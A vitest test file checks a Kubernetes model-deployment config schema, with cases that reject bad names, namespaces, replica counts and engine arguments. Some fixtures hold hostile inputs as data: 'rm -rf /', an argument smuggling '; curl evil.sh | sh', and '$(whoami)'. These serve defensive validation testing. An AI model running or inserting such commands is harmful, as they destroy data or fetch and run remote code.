import { describe, expect, it } from "vitest";
import { DeploymentConfig } from "./deployment-config";

const valid = { runtime: "kaito", name: "phi-4", namespace: "team-a", model: "microsoft/phi-4", engine: "vllm" } as const;
const pathsOf = (input: unknown) => {
  const result = DeploymentConfig.safeParse(input);
  return result.success ? [] : result.error.issues.map((i) => i.path.join("."));
};

describe("DeploymentConfig", () => {
  it("accepts a minimal config and fills Kubernetes-safe defaults", () => {
    const parsed = DeploymentConfig.parse(valid);
    expect(parsed).toMatchObject({ replicas: 1, gpusPerReplica: 1, nodeSelector: {}, tolerations: [], engineArgs: [], mode: "aggregated" });
  });

  it.each([
    ["name", { name: "Phi_4" }],
    ["name", { name: "a".repeat(64) }],
    ["name", { name: "-phi" }],
    ["namespace", { namespace: "kube-system" }],
    ["namespace", { namespace: "Team A" }],
    ["model", { model: "rm -rf /" }],
    ["replicas", { replicas: -1 }],
    ["replicas", { replicas: 101 }],
    ["replicas", { replicas: 1.5 }],
    ["gpusPerReplica", { gpusPerReplica: 17 }],
    ["engineArgs.0", { engineArgs: ["--max-model-len=4096; curl evil.sh | sh"] }],
    ["engineArgs.0", { engineArgs: ["$(whoami)"] }],
    ["engineArgs.1", { engineArgs: ["--dtype=bfloat16", "--trust-remote-code"] }],
    ["nodeSelector.bad key!", { nodeSelector: { "bad key!": "x" } }],
    ["tolerations.0.effect", { tolerations: [{ key: "nvidia.com/gpu", operator: "Exists", effect: "Sometimes" }] }],
    ["hfTokenSecret.name", { hfTokenSecret: { name: "HF Token", key: "token" } }],
    ["contextLength", { contextLength: 10 }],
    ["engine", { engine: "sglang" }],
  ])("rejects a bad %s", (path, patch) => {
    expect(pathsOf({ ...valid, ...patch })).toContain(path);
  });

  it("keeps runtime-specific fields to their runtime", () => {
    expect(pathsOf({ ...valid, runtime: "kuberay", engine: "llamacpp" })).toContain("engine");
    expect(pathsOf({ ...valid, runtime: "dynamo", engine: "sglang", mode: "disaggregated", dynamo: { router: "kv" } })).toEqual([]);
    expect(pathsOf({ ...valid, runtime: "kaito", mode: "disaggregated" })).toContain("mode");
    expect(pathsOf({ ...valid, runtime: "nomad" })).toContain("runtime");
  });

  it("accepts plain engine flags and values", () => {
    expect(pathsOf({ ...valid, engineArgs: ["--max-model-len", "8192", "--gpu-memory-utilization=0.9"] })).toEqual([]);
  });
});
